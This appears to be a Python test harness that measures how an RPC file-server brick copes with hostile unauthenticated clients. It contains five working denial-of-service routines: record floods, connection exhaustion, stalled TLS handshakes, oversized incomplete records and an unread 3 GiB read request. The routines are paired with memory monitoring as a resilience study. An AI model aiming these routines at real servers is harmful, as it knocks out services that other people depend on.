# SPDX-License-Identifier: Apache-2.0
"""What anybody who reaches a port may do, while a well-behaved client works.

  strangers.py KIND HOST PORT PID COMMAND [BRICK GFID]

does KIND to HOST:PORT, runs COMMAND while that lasts and prints by how many MiB the memory of PID has grown at most and what
became of the command:

  flood    records that are no calls, without end; the answers are not read
  idle     more connections than a server has, which say nothing
  shake    1,000 TLS handshakes that are begun and never go on
  big      connections with a record of 64 MiB that is never complete
  read     an attached client that asks for 3 GiB and reads nothing
"""
import resource, socket, struct, subprocess, sys, threading, time

MIB = 1 << 20
kind, host, port, pid, command = sys.argv[1], sys.argv[2], int(sys.argv[3]), sys.argv[4], sys.argv[5]
resource.setrlimit(resource.RLIMIT_NOFILE, (20000, 20000))
over = threading.Event()
kept, failed = [], []


def memory():
    with open(f"/proc/{pid}/status") as f:
        return next(int(line.split()[1]) for line in f if line.startswith("VmRSS")) // 1024


def connect():
    s = socket.create_connection((host, port), timeout=5)
    kept.append(s)
    return s


def send_all(s, data, patience=0.5):
    """As much of it as is taken within the time."""
    s.settimeout(patience)
    try:
        s.sendall(data)
    except OSError:
        pass


def flood():
    records = struct.pack(">III", 0x80000008, 7, 1) * 20000
    while not over.is_set():
        s = connect()
        s.settimeout(0.2)
        try:
            while not over.is_set():
                s.sendall(records)
        except TimeoutError:
            pass
        except OSError:
            continue
        over.wait(0.2)


def idle():
    for _ in range(4200):
        connect()


def shake():
    for _ in range(1000):
        send_all(connect(), b"\x16\x03\x01\x02\x00\x01")


def big():
    for _ in range(24):
        s = connect()
        send_all(s, struct.pack(">I", 0x80000000 | 64 * MIB))
        send_all(s, b"\0" * (63 * MIB))


def opaque(b):
    return struct.pack(">I", len(b)) + b + b"\0" * (-len(b) % 4)


def call(prog, vers, proc, body):
    cred = struct.pack(">IIII", 1, 0, 0, 0) + opaque(b"12345678")
    m = struct.pack(">IIIIIII", 1, 0, 2, prog, vers, proc, 390039) + opaque(cred) + struct.pack(">II", 0, 0) + body
    return struct.pack(">I", 0x80000000 | len(m)) + m


def read():
    brick, gfid = sys.argv[6], bytes.fromhex(sys.argv[7].removeprefix("0x"))
    words = {"remote-subvolume": brick, "process-uuid": "stranger", "fops-version": "1298437", "opversion": "60000"}
    intro = struct.pack(">I", len(words))
    for k, v in words.items():
        intro += struct.pack(">II", len(k), len(v) + 1) + k.encode() + b"\0" + v.encode() + b"\0"
    s = connect()
    s.sendall(call(14398633, 2, 1, opaque(intro)))
    answer = s.recv(65536)
    if struct.unpack(">i", answer[28:32]) != (0,):
        raise ValueError("the brick does not accept the client")
    one = call(1298437, 400, 12, gfid + struct.pack(">qQIIIiI", -2, 0, 4 * MIB, 0, 0, -1, 0))
    send_all(s, one * 800)


def attack():
    try:
        globals()[kind]()
    except (OSError, ValueError, struct.error) as e:
        failed.append(f"{kind}: {e}")


before = most = memory()
thread = threading.Thread(target=attack, daemon=True)
thread.start()
began = time.monotonic()
while thread.is_alive() and time.monotonic() - began < (1.5 if kind == "flood" else 12):
    time.sleep(0.02)
    most = max(most, memory())
try:
    work = subprocess.run(["bash", "-c", command], timeout=60, capture_output=True, text=True)
    result = f"status {work.returncode}: {(work.stdout + work.stderr).strip()[-300:]}"
except subprocess.TimeoutExpired:
    result = "no end within 60 s"
most = max(most, memory())
over.set()
print(most - before, *failed, result)
